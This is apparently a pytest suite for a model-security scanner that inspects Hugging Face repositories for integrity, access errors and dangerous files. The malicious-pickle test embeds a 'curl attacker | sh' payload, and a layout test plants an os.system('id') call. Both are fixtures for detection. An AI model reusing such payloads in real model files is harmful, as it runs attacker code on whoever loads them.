"""hf:// models scanned through the real huggingface_hub client against the test Hub."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import logging
import os

import numpy as np
import pytest
from hf_server import HubFile, HubServer
from model_fixtures import malicious_pickle, torch_zip
from safetensors.numpy import save
from source_helpers import codes, hf_config, hf_scan, outcome

from modelsec.engine import Engine
from modelsec.policy import Outcome
from modelsec.sources import ScanOptions, parse_model_uri, scan_model


def safetensors_bytes(mib: int) -> bytes:
    return save({"weight": np.zeros((mib, 256 * 1024), dtype=np.float32)})  # mib MiB of data


@pytest.fixture
def model(hub: HubServer) -> dict[str, bytes]:
    files = {
        "model.safetensors": safetensors_bytes(1),
        "config.json": b'{"architectures": ["LlamaForCausalLM"]}',
        "README.md": b"---\nlicense: apache-2.0\n---\n# model\n",
    }
    hub.orgs["acme"] = True
    hub.add_repo("acme/model", files, card_data={"license": "apache-2.0"}, tags=["license:apache-2.0"])
    return files


def test_scan_records_commit_metadata_and_lfs_fingerprints(hub: HubServer, model: dict[str, bytes]) -> None:
    scanned = hf_scan(hub, "hf://acme/model")
    repo = hub.repos["acme/model"]
    sha = repo.refs["main"]
    report = scanned.report

    assert report.revision == sha and scanned.metadata.revision == sha
    assert report.locations == ["hf://acme/model"]
    assert not report.all_incompletes()
    meta = scanned.metadata
    assert (meta.model_id, meta.author, meta.license, meta.verified_organization) == (
        "acme/model",
        "acme",
        "apache-2.0",
        True,
    )
    assert meta.last_modified is not None
    by_path = {f.path.rsplit("/", 1)[-1]: f for f in report.files}
    assert set(by_path) == set(model)
    # An LFS file read in part: its SHA-256 is the Hub's claim, recorded as a claim of this
    # endpoint, repository and commit, never as a computed SHA-256.
    lfs_sha = repo.commits[-1].files["model.safetensors"].sha256
    scope = f"{hub.url}/acme/model@{sha}"
    assert by_path["model.safetensors"].sha256 is None
    assert by_path["model.safetensors"].digest == f"claimed:sha256:{lfs_sha}@{scope}"
    # Non-LFS files: hashed (small, checked against the git blob id the Hub claims).
    config = by_path["config.json"]
    assert config.sha256 == hashlib.sha256(model["config.json"]).hexdigest()
    assert config.digest == f"claimed:git-blob:{repo.commits[-1].files['config.json'].oid}@{scope}"
    # Every file was read at the resolved commit, never at "main".
    reads = [r.path for r in hub.requests if "/resolve/" in r.path]
    assert reads and all(f"/resolve/{sha}/" in p for p in reads)


def test_branches_and_tags_resolve_to_their_commit(hub: HubServer) -> None:
    hub.add_repo("acme/tagged", {"a.json": b"{}"}, git_tags=("v1",))
    first = hub.repos["acme/tagged"].refs["v1"]
    second = hub.push("acme/tagged", {"a.json": b'{"changed": true}'}).sha

    assert hf_scan(hub, "hf://acme/tagged@v1").report.revision == first
    assert hf_scan(hub, "hf://acme/tagged").report.revision == second
    pinned = hf_scan(hub, f"hf://acme/tagged@{first}")
    assert pinned.report.revision == first
    assert pinned.metadata.extra["requestedRevision"] == first
    f = pinned.report.files[0]
    assert f.sha256 == hashlib.sha256(b"{}").hexdigest()


def test_https_reference_form(hub: HubServer, model: dict[str, bytes]) -> None:
    ref = parse_model_uri("https://huggingface.co/acme/model/tree/main")
    scanned = scan_model(ref, Engine(), ScanOptions(config=hf_config(hub)))
    assert scanned.report.revision == hub.repos["acme/model"].refs["main"]


def test_large_safetensors_transfers_a_small_fraction(hub: HubServer) -> None:
    data = safetensors_bytes(48)
    hub.add_repo("acme/big", {"model.safetensors": data})
    scanned = hf_scan(hub, "hf://acme/big")
    report = scanned.report
    assert not report.all_incompletes()
    assert report.files[0].format == "safetensors"
    assert report.files[0].sha256 is None  # not read whole: only the Hub's claim is known
    assert report.files[0].digest.startswith(f"claimed:sha256:{hashlib.sha256(data).hexdigest()}@")
    assert report.bytes_transferred is not None
    assert report.bytes_transferred < 0.01 * len(data)
    # The server agrees: what it sent for the file is what the scan counted.
    assert hub.bytes_sent("model.safetensors") == report.bytes_transferred


def test_torch_zip_reads_directory_and_pickle_not_storages(hub: HubServer) -> None:
    """Each member costs its detection head and format probes (tens to hundreds of KiB),
    never its data; the benchmark shows the fraction on multi-gigabyte archives."""
    storages = {str(i): bytes(16 << 20) for i in range(2)}
    archive = torch_zip(storages)
    hub.add_repo("acme/torch", {"pytorch_model.bin": archive})
    report = hf_scan(hub, "hf://acme/torch").report
    assert not [i for i in report.all_incompletes() if i.code.startswith("MS-SRC")]
    assert report.files[0].format.startswith(("pytorch", "zip")), report.files[0].format
    assert report.bytes_transferred < 0.05 * len(archive)


def test_malicious_pickle_and_torch_zip_are_found(hub: HubServer) -> None:
    evil = malicious_pickle("curl attacker | sh")
    hub.add_repo(
        "mallory/evil",
        {
            "model.pkl": evil,
            "pytorch_model.bin": torch_zip({"0": bytes(4096)}, pickle_bytes=evil),
        },
    )
    scanned = hf_scan(hub, "hf://mallory/evil")
    findings = scanned.report.all_findings()
    flagged = {f.file.split("!")[0].rsplit("/", 1)[-1] for f in findings if f.rule == "LoadTimeCodeExecution"}
    assert flagged == {"model.pkl", "pytorch_model.bin"}, findings
    assert outcome(scanned) == Outcome.BLOCKED


def test_allow_and_ignore_patterns(hub: HubServer, model: dict[str, bytes]) -> None:
    only = hf_scan(hub, "hf://acme/model", allowPatterns="*.safetensors")
    assert [f.path for f in only.report.files] == ["hf://acme/model/model.safetensors"]
    skipped = hf_scan(hub, "hf://acme/model", ignorePatterns=["*.md", "*.json"])
    assert [f.path for f in skipped.report.files] == ["hf://acme/model/model.safetensors"]
    nothing = hf_scan(hub, "hf://acme/model", allowPatterns="*.gguf")
    assert codes(nothing) == ["MS-SRC-008"]
    assert "none of its 3 file(s)" in nothing.report.incompletes[0].reason
    assert outcome(nothing) == Outcome.ERROR


# --- errors users will hit ----------------------------------------------------------------


def test_missing_repository(hub: HubServer) -> None:
    scanned = hf_scan(hub, "hf://acme/does-not-exist")
    assert codes(scanned) == ["MS-SRC-003"]
    assert "does not exist" in scanned.report.incompletes[0].reason
    assert outcome(scanned) == Outcome.ERROR


def test_private_model_needs_a_token(hub: HubServer) -> None:
    hub.add_repo("acme/private", {"model.safetensors": safetensors_bytes(1)}, private=True)
    hub.tokens["hf_reader_token_1234"] = {"acme/private"}
    hub.tokens["hf_other_token_5678"] = set()

    anonymous = hf_scan(hub, "hf://acme/private")
    assert codes(anonymous) == ["MS-SRC-004"]
    assert "requires authentication" in anonymous.report.incompletes[0].reason
    assert outcome(anonymous) == Outcome.ERROR

    wrong = hf_scan(hub, "hf://acme/private", token="hf_other_token_5678")
    assert codes(wrong) == ["MS-SRC-003"]
    assert "token given cannot see it" in wrong.report.incompletes[0].reason

    ok = hf_scan(hub, "hf://acme/private", token="hf_reader_token_1234")
    assert not ok.report.all_incompletes() and ok.metadata.extra.get("private") == "true"


def test_token_from_environment(hub: HubServer, monkeypatch: pytest.MonkeyPatch) -> None:
    hub.add_repo("acme/private", {"a.json": b"{}"}, private=True)
    hub.tokens["hf_env_token_abcdef"] = {"*"}
    monkeypatch.setenv("HF_TOKEN", "hf_env_token_abcdef")
    assert not hf_scan(hub, "hf://acme/private").report.all_incompletes()


def test_invalid_token_is_rejected_precisely(hub: HubServer, model: dict[str, bytes]) -> None:
    scanned = hf_scan(hub, "hf://acme/model", token="hf_expired_token_000")
    assert codes(scanned) == ["MS-SRC-004"]
    assert "rejected the credentials" in scanned.report.incompletes[0].reason


def test_gated_model_without_access(hub: HubServer) -> None:
    hub.add_repo("meta/gated", {"model.safetensors": safetensors_bytes(1)}, gated="manual")
    hub.tokens["hf_not_granted_0000"] = set()
    hub.tokens["hf_granted_token_00"] = {"meta/gated"}

    anonymous = hf_scan(hub, "hf://meta/gated")
    assert codes(anonymous) == ["MS-SRC-004"]
    assert "gated model" in anonymous.report.incompletes[0].reason
    assert "no token was given" in anonymous.report.incompletes[0].reason
    assert outcome(anonymous) == Outcome.ERROR

    refused = hf_scan(hub, "hf://meta/gated", token="hf_not_granted_0000")
    assert codes(refused) == ["MS-SRC-004"]
    assert "not been granted access" in refused.report.incompletes[0].reason

    granted = hf_scan(hub, "hf://meta/gated", token="hf_granted_token_00")
    assert not granted.report.all_incompletes()
    assert granted.metadata.extra["gated"] == "manual"


def test_revision_not_found(hub: HubServer, model: dict[str, bytes]) -> None:
    scanned = hf_scan(hub, "hf://acme/model@no-such-branch")
    assert codes(scanned) == ["MS-SRC-005"]
    assert "'no-such-branch' does not exist" in scanned.report.incompletes[0].reason
    assert outcome(scanned) == Outcome.ERROR


def test_throttling_is_retried_with_backoff(hub: HubServer, model: dict[str, bytes]) -> None:
    hub.throttle(2, match="/api/models/")
    scanned = hf_scan(hub, "hf://acme/model")
    assert not scanned.report.all_incompletes()
    statuses = [r.status for r in hub.requests if r.path.startswith("/api/models/")]
    assert statuses[:3] == [429, 429, 200]

    hub.throttle(3, match="/resolve/")  # range reads are retried too
    assert not hf_scan(hub, "hf://acme/model").report.all_incompletes()


def test_persistent_throttling_gives_up_in_bounded_attempts(hub: HubServer, model: dict[str, bytes]) -> None:
    hub.throttle(1000, match="/api/models/", retry_after=3600)  # a hostile Retry-After is capped
    scanned = hf_scan(hub, "hf://acme/model", maxRetries=3)
    assert codes(scanned) == ["MS-SRC-006"]
    assert "gave up after 4 attempts" in scanned.report.incompletes[0].reason
    assert sum(1 for r in hub.requests if r.status == 429) == 4
    assert outcome(scanned) == Outcome.ERROR


def test_timeout(hub: HubServer, model: dict[str, bytes]) -> None:
    hub.stall_seconds = 2.0
    scanned = hf_scan(hub, "hf://acme/model", timeout=0.2, maxRetries=1)
    assert codes(scanned) == ["MS-SRC-007"]
    assert "timeout" in scanned.report.incompletes[0].reason
    assert outcome(scanned) == Outcome.ERROR


def test_connection_refused() -> None:
    from source_helpers import free_port

    ref = parse_model_uri("hf://acme/model")
    config = {"endpoint": f"http://127.0.0.1:{free_port()}", "maxRetries": 1, "retryBaseSeconds": 0.01}
    scanned = scan_model(ref, Engine(), ScanOptions(config=config))
    assert codes(scanned) == ["MS-SRC-007"]
    assert "cannot connect" in scanned.report.incompletes[0].reason


def test_invalid_config_key_is_an_error_naming_the_key(hub: HubServer) -> None:
    scanned = hf_scan(hub, "hf://acme/model", tokn="hf_secret_typo_value")
    assert codes(scanned) == ["MS-SRC-002"]
    reason = scanned.report.incompletes[0].reason
    assert "tokn: unknown key" in reason and "hf_secret_typo_value" not in reason


# --- integrity and the temporary area ---------------------------------------------------


def test_bytes_not_matching_lfs_sha256_are_an_error(hub: HubServer) -> None:
    genuine = malicious_pickle("true")
    hub.add_repo(
        "acme/tampered", {"model.pkl": HubFile("model.pkl", data=genuine, served=genuine[:-2] + b"X.")}
    )
    scanned = hf_scan(hub, "hf://acme/tampered")
    assert "MS-SRC-009" in codes(scanned)
    assert "SHA-256" in scanned.report.files[0].incompletes[-1].reason
    assert outcome(scanned) == Outcome.ERROR


def test_server_without_range_support_downloads_whole_and_cleans_up(
    hub: HubServer, tmp_path: os.PathLike[str]
) -> None:
    data = safetensors_bytes(2)
    hub.add_repo("acme/norange", {"model.safetensors": data})
    hub.ignore_range = True
    scanned = hf_scan(hub, "hf://acme/norange", tempDir=str(tmp_path))
    report = scanned.report
    assert not report.all_incompletes()
    assert report.files[0].format == "safetensors"
    assert report.bytes_transferred == len(data)  # once, verified against the LFS sha256
    assert os.listdir(tmp_path) == []  # the temporary area is gone


def test_whole_download_bounded_by_temp_limit(hub: HubServer, tmp_path: os.PathLike[str]) -> None:
    hub.add_repo("acme/norange", {"model.safetensors": safetensors_bytes(2)})
    hub.ignore_range = True
    scanned = hf_scan(hub, "hf://acme/norange", tempDir=str(tmp_path), maxDownloadBytes=1 << 20)
    assert "MS-SRC-010" in codes(scanned)
    assert "maxDownloadBytes" in scanned.report.files[0].incompletes[-1].reason
    assert outcome(scanned) == Outcome.ERROR
    assert os.listdir(tmp_path) == []


# --- credentials --------------------------------------------------------------------------


def test_token_never_reaches_cdn_reports_or_logs(hub: HubServer, caplog: pytest.LogCaptureFixture) -> None:
    token = "hf_very_secret_token_0123456789"
    hub.add_repo("acme/private", {"model.safetensors": safetensors_bytes(1), "a.json": b"{}"}, private=True)
    hub.tokens[token] = {"acme/private"}
    caplog.set_level(logging.DEBUG)

    scanned = hf_scan(hub, "hf://acme/private", token=token)
    failed = hf_scan(hub, "hf://acme/missing", token=token)

    assert not scanned.report.all_incompletes()
    hub_reads = [r for r in hub.requests if r.server == "hub"]
    cdn_reads = [r for r in hub.requests if r.server == "cdn"]
    assert hub_reads and all(r.authorization for r in hub_reads)
    assert cdn_reads and not any(r.authorization for r in cdn_reads)  # not forwarded off the Hub
    for result in (scanned, failed):
        text = json.dumps(dataclasses.asdict(result.report), default=str) + repr(result.metadata)
        assert token not in text
    assert token not in caplog.text


def test_cli_scans_hf_reference(hub: HubServer, model: dict[str, bytes], tmp_path: os.PathLike[str]) -> None:
    import subprocess
    import sys

    env = {**os.environ, "HF_ENDPOINT": hub.url}
    run = subprocess.run(
        [sys.executable, "-m", "modelsec.cli.main", "scan", "hf://acme/model", "--format", "json"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert run.returncode in (0, 1), run.stderr
    assert hub.repos["acme/model"].refs["main"] in run.stdout


def test_resolve_commit_for_revision_pinning(hub: HubServer, model: dict[str, bytes]) -> None:
    from modelsec.sources.errors import SourceFailure
    from modelsec.sources.huggingface import resolve_commit

    sha = hub.repos["acme/model"].refs["main"]
    assert resolve_commit(parse_model_uri("hf://acme/model"), hf_config(hub)) == sha
    with pytest.raises(SourceFailure) as err:
        resolve_commit(parse_model_uri("hf://acme/model@nope"), hf_config(hub))
    assert err.value.code == "MS-SRC-005"


def test_layout_checks_run_on_remote_repositories(hub: HubServer) -> None:
    """auto_map code, stray *.py and shard indexes are checked as for a local snapshot,
    without downloading the weights."""
    config = {"architectures": ["Custom"], "auto_map": {"AutoModel": "modeling_custom.CustomModel"}}
    weights = safetensors_bytes(24)
    hub.add_repo(
        "mallory/custom-code",
        {
            "config.json": json.dumps(config).encode(),
            "modeling_custom.py": b"import os\nos.system('id')\n",
            "model.safetensors": weights,
            "model.safetensors.index.json": json.dumps(
                {"weight_map": {"a": "model.safetensors", "b": "model-missing.safetensors"}}
            ).encode(),
        },
    )
    scanned = hf_scan(hub, "hf://mallory/custom-code")
    report = scanned.report
    assert "hf-repo" in {r.format for r in report.layout_formats}
    runtime = [f for f in report.findings if f.rule == "RuntimeCodeExecution"]
    assert runtime and all(f.file.startswith("hf://mallory/custom-code/") for f in runtime), runtime
    assert any("modeling_custom" in f.file or "modeling_custom" in f.message for f in runtime)
    suspicious = [f for f in report.findings if f.rule == "SuspiciousComponents"]
    assert any("model-missing.safetensors" in f.message for f in suspicious), report.findings
    assert not any("/modelsec-remote-" in f.file or "/modelsec-remote-" in f.message for f in report.findings)
    assert report.bytes_transferred < len(weights) * 0.05  # placeholders, not downloads


def test_mirror_without_blob_listing_falls_back_to_the_tree(hub: HubServer, model: dict[str, bytes]) -> None:
    hub.ignore_blobs = True
    scanned = hf_scan(hub, "hf://acme/model")
    assert not scanned.report.all_incompletes()
    sha = hub.repos["acme/model"].refs["main"]
    assert any(r.path == f"/api/models/acme/model/tree/{sha}" for r in hub.requests)
    weights = next(f for f in scanned.report.files if f.path.endswith("model.safetensors"))
    lfs_sha = hub.repos["acme/model"].commits[-1].files["model.safetensors"].sha256
    assert weights.digest == f"claimed:sha256:{lfs_sha}@{hub.url}/acme/model@{sha}"


def test_small_lfs_weights_are_not_downloaded_for_layout_checks(hub: HubServer) -> None:
    weights = safetensors_bytes(4)
    hub.add_repo("acme/small", {"model.safetensors": weights, "config.json": b"{}"})
    scanned = hf_scan(hub, "hf://acme/small")
    assert not scanned.report.all_incompletes()
    assert hub.bytes_sent("model.safetensors") < len(weights) // 4


def test_too_many_files_and_unexpected_errors_are_errors(
    hub: HubServer, model: dict[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    from modelsec.sources import huggingface, remote_scan

    monkeypatch.setattr(remote_scan, "MAX_FILES", 2)
    too_many = hf_scan(hub, "hf://acme/model")
    assert codes(too_many) == ["MS-SRC-014"] and outcome(too_many) == Outcome.ERROR
    monkeypatch.undo()

    def broken(self: object, info: object) -> list[dict[str, object]]:
        raise KeyError("siblings")

    monkeypatch.setattr(huggingface.Hub, "files", broken)
    crashed = hf_scan(hub, "hf://acme/model")
    assert codes(crashed) == ["MS-SRC-012"] and "unexpected KeyError" in crashed.report.incompletes[0].reason
    assert outcome(crashed) == Outcome.ERROR


def test_one_resolve_per_file_then_cdn_directly_until_it_expires(hub: HubServer) -> None:
    hub.add_repo("acme/probe", {"pytorch_model.bin": torch_zip({str(i): bytes(1 << 20) for i in range(6)})})
    hub.tokens["hf_probe_token_0000"] = {"*"}
    first = hf_scan(hub, "hf://acme/probe", token="hf_probe_token_0000")
    assert not [i for i in first.report.all_incompletes() if i.code.startswith("MS-SRC")]
    resolves = [r for r in hub.requests if "/resolve/" in r.path]
    cdn = [r for r in hub.requests if r.server == "cdn"]
    assert len(resolves) == 1 and len(cdn) > 3
    assert not any(r.authorization for r in cdn)

    # The signed URL expires mid-scan: reads fall back to /resolve and get a fresh one.
    hub.requests.clear()
    hub.renew_cdn_signature_after(2)
    second = hf_scan(hub, "hf://acme/probe", token="hf_probe_token_0000")
    assert not [i for i in second.report.all_incompletes() if i.code.startswith("MS-SRC")]
    assert any(r.status == 403 for r in hub.requests if r.server == "cdn")
    assert len([r for r in hub.requests if "/resolve/" in r.path]) == 2
